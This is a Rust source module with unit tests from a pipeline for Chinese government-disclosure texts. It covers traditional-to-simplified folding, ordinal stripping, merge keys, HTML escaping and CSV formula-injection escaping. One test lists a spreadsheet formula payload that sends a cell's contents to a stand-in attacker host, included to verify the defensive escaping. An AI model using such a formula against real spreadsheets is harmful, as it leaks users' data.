//! Text normalization shared by the pipeline: traditional → simplified folding,
//! ordinal prefixes of headings, and the keys under which units and categories merge.

/// jieba's dictionary, loaded once per process (word cuts for slugs and search).
pub static JIEBA: std::sync::LazyLock<jieba_rs::Jieba> =
    std::sync::LazyLock::new(jieba_rs::Jieba::new);

/// Folds traditional characters to simplified ones, one character for one character,
/// so that character offsets in the folded text equal those in the original.
/// Text with no character the folding may change (most plans) is copied as it is.
pub fn to_simplified(s: &str) -> String {
    simplified_if_changed(s).unwrap_or_else(|| s.to_string())
}

/// [`to_simplified`], or `None` without converting (or copying) when the text holds
/// no character the folding may change.
pub fn simplified_if_changed(s: &str) -> Option<String> {
    may_simplify(s).then(|| fast2s::convert(s))
}

/// True when [`to_simplified`] may change the text: it holds a character that
/// fast2s changes on its own, or one it changes beside certain neighbours.
pub fn may_simplify(s: &str) -> bool {
    s.chars().any(|c| SIMPLIFIABLE.may_change(c))
}

/// The characters fast2s (0.3.1, its `special.rs`) changes only beside certain
/// neighbours (`看著` → `看着`), so never on their own. Other characters it
/// changes the same way wherever they stand, or leaves beside certain neighbours.
const CHANGED_IN_CONTEXT: [char; 7] = ['藉', '著', '苧', '闔', '鍾', '讎', '畫'];

/// Which characters the traditional → simplified folding changes, a bit per
/// character of the Basic Multilingual Plane (fast2s changes no other).
struct Simplifiable {
    /// Changed on their own.
    alone: Box<[u64]>,
    /// Changed on their own, or beside certain neighbours.
    any: Box<[u64]>,
}

impl Simplifiable {
    fn new() -> Simplifiable {
        let mut alone = vec![0u64; 0x10000 / 64].into_boxed_slice();
        let mut buf = [0; 4];
        for c in (0x800u32..0x10000).filter_map(char::from_u32) {
            let one = &*c.encode_utf8(&mut buf);
            if fast2s::convert(one) != one {
                alone[c as usize / 64] |= 1 << (c as usize % 64);
            }
        }
        let mut any = alone.clone();
        for c in CHANGED_IN_CONTEXT {
            any[c as usize / 64] |= 1 << (c as usize % 64);
        }
        Simplifiable { alone, any }
    }

    fn bit(bits: &[u64], c: char) -> bool {
        bits.get(c as usize / 64)
            .is_some_and(|word| word >> (c as usize % 64) & 1 == 1)
    }

    /// True for a character the folding changes on its own.
    fn changes_alone(&self, c: char) -> bool {
        Self::bit(&self.alone, c)
    }

    /// True for a character the folding may change.
    fn may_change(&self, c: char) -> bool {
        Self::bit(&self.any, c)
    }
}

/// The folding's characters, found once per process (~63,000 characters tried).
static SIMPLIFIABLE: std::sync::LazyLock<Simplifiable> =
    std::sync::LazyLock::new(Simplifiable::new);

/// A character the folding changes on its own, and what it becomes.
pub fn simplified_alone(c: char) -> Option<char> {
    if !SIMPLIFIABLE.changes_alone(c) {
        return None;
    }
    let folded = fast2s::convert(c.encode_utf8(&mut [0; 4]));
    let mut chars = folded.chars();
    chars.next().filter(|_| chars.next().is_none())
}

/// Maps full-width ASCII forms (`Ａ`, `１`) to their half-width counterparts.
pub fn fold_fullwidth(c: char) -> char {
    match c {
        '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFEE0).unwrap_or(c),
        '\u{3000}' => ' ',
        _ => c,
    }
}

/// True when the text is written mostly in traditional characters.
pub fn is_traditional(s: &str) -> bool {
    let (mut han, mut changed) = (0usize, 0usize);
    for c in s.chars().filter(|&c| is_han(c)) {
        han += 1;
        if SIMPLIFIABLE.changes_alone(c) {
            changed += 1;
        }
    }
    // Simplified text has no changed characters at all; traditional text has many.
    han > 0 && changed * 50 >= han
}

/// True for characters of the CJK unified ideograph blocks.
pub fn is_han(c: char) -> bool {
    matches!(c as u32, 0x3400..=0x4DBF | 0x4E00..=0x9FFF | 0xF900..=0xFAFF | 0x20000..=0x2FA1F)
}

const CHINESE_NUMERALS: &str = "〇零一二三四五六七八九十百";

/// Removes a printed ordinal prefix: `一、`, `（一）`, `(一)`, `1.`, `1、`, `第一，`.
pub fn strip_ordinal(title: &str) -> &str {
    let t = title.trim_start();
    let is_num =
        |c: char| CHINESE_NUMERALS.contains(c) || c.is_ascii_digit() || ('０'..='９').contains(&c);
    // Parenthesised: （一） or (1)
    for (open, close) in [('（', '）'), ('(', ')')] {
        if let Some(rest) = t.strip_prefix(open) {
            let digits: usize = rest
                .chars()
                .take_while(|&c| is_num(c))
                .map(char::len_utf8)
                .sum();
            if digits > 0
                && let Some(after) = rest[digits..].strip_prefix(close)
            {
                return after.trim_start();
            }
        }
    }
    let body = t.strip_prefix('第').unwrap_or(t);
    let digits: usize = body
        .chars()
        .take_while(|&c| is_num(c))
        .map(char::len_utf8)
        .sum();
    if digits > 0 {
        let rest = &body[digits..];
        for sep in ['、', '.', '．', '，', ',', ' ', '\u{3000}'] {
            if let Some(after) = rest.strip_prefix(sep) {
                return after.trim_start();
            }
        }
    }
    t
}

/// The key under which category titles merge: ordinal prefix removed, folded to
/// simplified, punctuation and white space dropped, Latin lowercased.
pub fn category_key(title: &str) -> String {
    to_simplified(strip_ordinal(title))
        .chars()
        .filter(|c| c.is_alphanumeric())
        .flat_map(char::to_lowercase)
        .collect()
}

/// A category title for display: ordinal prefix and trailing punctuation removed.
pub fn category_display(title: &str) -> String {
    strip_ordinal(title)
        .trim_end_matches(|c: char| !c.is_alphanumeric() && !matches!(c, '）' | ')' | '》' | '”'))
        .to_string()
}

/// Removes parenthesised annotations such as `（市信息中心）` from a unit name.
pub fn strip_annotations(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    let mut depth = 0usize;
    for c in name.chars() {
        match c {
            '（' | '(' => depth += 1,
            '）' | ')' if depth > 0 => depth -= 1,
            _ if depth == 0 => out.push(c),
            _ => {}
        }
    }
    let trimmed = out.trim();
    if trimmed.is_empty() {
        name.trim().to_string()
    } else {
        trimmed.to_string()
    }
}

/// The key under which unit names merge within one jurisdiction. Results are
/// remembered: a site names the same few thousand units over and over.
pub fn unit_key(name: &str) -> String {
    use std::collections::HashMap;
    use std::sync::{LazyLock, Mutex};
    static MEMO: LazyLock<Mutex<HashMap<String, String>>> = LazyLock::new(Default::default);
    if let Some(key) = MEMO.lock().expect("unit key memo").get(name) {
        return key.clone();
    }
    let key = to_simplified(&strip_annotations(name));
    MEMO.lock()
        .expect("unit key memo")
        .insert(name.to_string(), key.clone());
    key
}

/// A CSV cell that a spreadsheet shows as text: a cell beginning with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (which Excel and WPS run as a formula) gets
/// a `'` in front (OWASP's rule), and so does one beginning with `'`, so that
/// [`from_spreadsheet_cell`] gives every cell back exactly.
pub fn to_spreadsheet_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// The text of a cell written by [`to_spreadsheet_cell`].
pub fn from_spreadsheet_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Every kind of line end (`\r\n`, a lone `\r` as old Mac files have, U+2028 and
/// U+2029) as `\n`. Borrowed when there is nothing to change.
pub fn normalize_newlines(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.contains(['\r', '\u{2028}', '\u{2029}']) {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' => {
                chars.next_if_eq(&'\n');
                out.push('\n');
            }
            '\u{2028}' | '\u{2029}' => out.push('\n'),
            c => out.push(c),
        }
    }
    std::borrow::Cow::Owned(out)
}

/// True for characters a reader cannot see and that change no meaning: format
/// characters (zero-width spaces and joiners, the byte-order mark, soft hyphens,
/// direction overrides), control characters other than tab and line feed, and the
/// Unicode line and paragraph separators.
pub fn is_invisible(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c as u32,
            0x00AD | 0x034F | 0x061C | 0x115F | 0x1160 | 0x17B4 | 0x17B5 | 0x180E
            | 0x200B..=0x200F | 0x2028..=0x202E | 0x2060..=0x206F | 0x3164 | 0xFEFF
            | 0xFFA0 | 0xFFF9..=0xFFFB | 0x1D173..=0x1D17A | 0xE0000..=0xE0FFF)
}

/// The text without invisible characters ([`is_invisible`]); borrowed when there is
/// none.
pub fn strip_invisible(s: &str) -> std::borrow::Cow<'_, str> {
    if s.chars().any(is_invisible) {
        std::borrow::Cow::Owned(s.chars().filter(|&c| !is_invisible(c)).collect())
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// Escapes text for HTML and XML (`&`, `<`, `>`, quotes). Unlike tera's default it
/// leaves `/` alone, so URLs stay readable in the output.
pub fn escape_html(input: &str) -> String {
    let mut out = String::with_capacity(input.len() + 16);
    escape_html_pieces(input, |piece| {
        out.push_str(piece);
        Ok::<(), std::convert::Infallible>(())
    })
    .unwrap_or_else(|never| match never {});
    out
}

/// [`escape_html`] into a writer: the escape function of the templates.
pub fn write_escaped_html(input: &str, out: &mut dyn std::io::Write) -> std::io::Result<()> {
    escape_html_pieces(input, |piece| out.write_all(piece.as_bytes()))
}

/// Hands `input` escaped to `emit`, a run of plain text or an entity at a time.
fn escape_html_pieces<E>(
    input: &str,
    mut emit: impl FnMut(&str) -> Result<(), E>,
) -> Result<(), E> {
    let mut plain = 0;
    // The escaped characters are ASCII, so every cut is a character boundary.
    for (i, byte) in input.bytes().enumerate() {
        let entity = match byte {
            b'&' => "&amp;",
            b'<' => "&lt;",
            b'>' => "&gt;",
            b'"' => "&quot;",
            b'\'' => "&#39;",
            _ => continue,
        };
        emit(&input[plain..i])?;
        emit(entity)?;
        plain = i + 1;
    }
    emit(&input[plain..])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spreadsheet_cells_never_start_a_formula_and_read_back_exactly() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
            "@SUM(1+1)局",
            "-2+3",
            "+1",
            "\t=1",
            "\r=1",
            "'=1",
            "'",
            "财政局",
            "",
        ] {
            let safe = to_spreadsheet_cell(cell);
            assert!(
                !safe.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{safe}"
            );
            assert_eq!(from_spreadsheet_cell(&safe), cell);
        }
        assert_eq!(to_spreadsheet_cell("财政局"), "财政局");
    }

    #[test]
    fn folds_traditional_one_char_for_one() {
        let t = "市財政局牽頭,市直各部門按職責分工落實";
        let s = to_simplified(t);
        assert_eq!(s, "市财政局牵头,市直各部门按职责分工落实");
        assert_eq!(s.chars().count(), t.chars().count());
    }

    #[test]
    fn folds_as_fast2s_does_with_and_without_context() {
        let seeds = [
            include_str!("../tests/fixtures/seeds/000_0071056ec49d38f4.txt"),
            include_str!("../tests/fixtures/seeds/001_d95fd244d5190ee7.txt"),
            include_str!("../tests/fixtures/seeds/002_63ce1ae4a1ff002f.txt"),
            include_str!("../tests/fixtures/seeds/003_d0c2f3a27b33c2ec.txt"),
            include_str!("../tests/fixtures/seeds/004_27bda7d56444e5fa.txt"),
        ];
        // The words in which fast2s folds a character only beside its neighbour,
        // or leaves one it would fold elsewhere, in simplified and traditional text.
        let words = [
            "看著", "苧麻", "闔家", "鍾書", "校讎", "讎定", "仇讎", "計畫", "企畫", "藉口", "憑藉",
            "慰藉", "瞭望", "甚夥", "答覆", "乾隆", "樊於",
        ];
        let mut texts: Vec<String> = seeds.iter().map(|s| s.to_string()).collect();
        for (i, w) in words.iter().enumerate() {
            texts.push(format!("财政局{w}落实"));
            texts.push(format!("財政局{w}落實"));
            texts.push(w.to_string());
            texts.push(format!("{w}{}", words[(i + 1) % words.len()]));
        }
        for line in texts.iter().flat_map(|t| t.lines()) {
            assert_eq!(to_simplified(line), fast2s::convert(line), "{line}");
        }
        for c in CHANGED_IN_CONTEXT {
            assert!(may_simplify(&c.to_string()), "{c}");
        }
        assert!(!may_simplify("市财政局牵头，各部门配合"));
        assert!(may_simplify("市財政局"));
        assert_eq!(simplified_alone('財'), Some('财'));
        assert_eq!(simplified_alone('财'), None);
    }

    #[test]
    fn escapes_the_five_characters_and_keeps_the_rest() {
        let input = "<a href=\"/x?a=1&b='2'\">財政局</a>";
        let expected = "&lt;a href=&quot;/x?a=1&amp;b=&#39;2&#39;&quot;&gt;財政局&lt;/a&gt;";
        assert_eq!(escape_html(input), expected);
        let mut written = Vec::new();
        write_escaped_html(input, &mut written).unwrap();
        assert_eq!(String::from_utf8(written).unwrap(), expected);
        assert_eq!(escape_html("政务公开"), "政务公开");
        assert_eq!(escape_html("&"), "&amp;");
    }

    #[test]
    fn detects_script() {
        assert!(is_traditional("做好財政信息公開"));
        assert!(!is_traditional("做好财政信息公开"));
        assert!(!is_traditional("2021 IPv6"));
    }

    #[test]
    fn strips_ordinals() {
        assert_eq!(
            strip_ordinal("三、做好财政信息公开。"),
            "做好财政信息公开。"
        );
        assert_eq!(
            strip_ordinal("（十七）认真抓好工作落实。"),
            "认真抓好工作落实。"
        );
        assert_eq!(strip_ordinal("做好財政信息公開"), "做好財政信息公開");
        assert_eq!(strip_ordinal("十四五规划"), "十四五规划");
        assert_eq!(strip_ordinal("12. 任务"), "任务");
    }

    #[test]
    fn category_keys_meet_across_scripts_and_ordinals() {
        let k = category_key("三、做好财政信息公开。");
        assert_eq!(k, category_key("（三）做好财政信息公开"));
        assert_eq!(k, category_key("做好財政信息公開"));
        assert_eq!(
            category_key("落實《政府信息公開條例》"),
            "落实政府信息公开条例"
        );
        assert_eq!(
            category_display("三、做好财政信息公开。"),
            "做好财政信息公开"
        );
        assert_eq!(
            category_display("落實《政府信息公開條例》"),
            "落實《政府信息公開條例》"
        );
    }

    #[test]
    fn every_line_end_is_a_newline() {
        assert_eq!(normalize_newlines("a\r\nb\rc\u{2028}d\ne"), "a\nb\nc\nd\ne");
        assert!(matches!(
            normalize_newlines("a\nb"),
            std::borrow::Cow::Borrowed(_)
        ));
    }

    #[test]
    fn invisible_characters_are_dropped() {
        assert_eq!(
            strip_invisible("\u{feff}政务\u{200b}公开\u{ad}\u{202e}\u{2028}\0要点"),
            "政务公开要点"
        );
        assert_eq!(strip_invisible("a\tb\nc"), "a\tb\nc");
    }

    #[test]
    fn unit_keys_ignore_annotations() {
        assert_eq!(
            unit_key("市政務服務數據管理局(市信息中心)"),
            "市政务服务数据管理局"
        );
        assert_eq!(unit_key("区司法局（负责区政府规章）"), "区司法局");
        assert_eq!(unit_key("（注）"), "（注）");
    }
}
